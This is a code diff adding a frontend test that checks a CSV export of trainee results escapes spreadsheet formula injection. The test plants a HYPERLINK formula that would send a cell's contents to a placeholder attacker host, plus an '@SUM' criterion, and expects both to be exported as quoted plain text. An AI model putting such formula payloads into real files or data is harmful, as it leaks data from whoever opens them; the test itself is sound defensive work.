@@ -5,6 +5,7 @@
  */
 import { screen, within } from '@testing-library/react';
 import userEvent from '@testing-library/user-event';
+import Papa from 'papaparse';
 import { afterEach, describe, expect, it, vi } from 'vitest';
 import { insightsText } from '../../../config/insights-text';
 import { renderWithProviders } from '../../../test/render';
@@ -133,6 +134,30 @@ describe('AssignmentInsightsContent', () => {
       'Ana Álvarez,ana@demo.test,4.33,4,5,4,2026-11-20',
       'Ben Baker,ben@demo.test,2.50,1,4,—,2026-11-21',
     ]);
+  });
+
+  it("exports a trainee's name and a criterion that a spreadsheet would run as formulas as plain text", async () => {
+    const files = captureDownloads();
+    const hostile = '=HYPERLINK("http://evil.test/?leak="&B2,"Open")';
+    const [ana, ben] = assignmentInsightsFixture.trainees;
+    show({
+      ...assignmentInsightsFixture,
+      criteria: assignmentInsightsFixture.criteria.map((c, i) =>
+        i === 2 ? { ...c, text: '@SUM(A1:A9)' } : c,
+      ),
+      trainees: [{ ...ana!, user: { ...ana!.user, firstName: hostile, lastName: '' } }, ben!],
+    });
+    await userEvent.click(
+      screen.getByRole('button', {
+        name: insightsText.downloadCsvLabel(insightsText.traineesTitle),
+      }),
+    );
+    const text = (await files[0]!.text()).replace(/^\uFEFF/, '');
+    const [header, first] = Papa.parse<string[]>(text, { newline: '\r\n' }).data;
+    expect(header![5]).toBe("'@SUM(A1:A9)");
+    expect(first![0]).toBe(`'${hostile}`);
+    // The figures stay as they were.
+    expect(first!.slice(1)).toEqual(['ana@demo.test', '4.33', '4', '5', '4', '2026-11-20']);
   });
 
   it('shows the answers per status over time as a table', async () => {
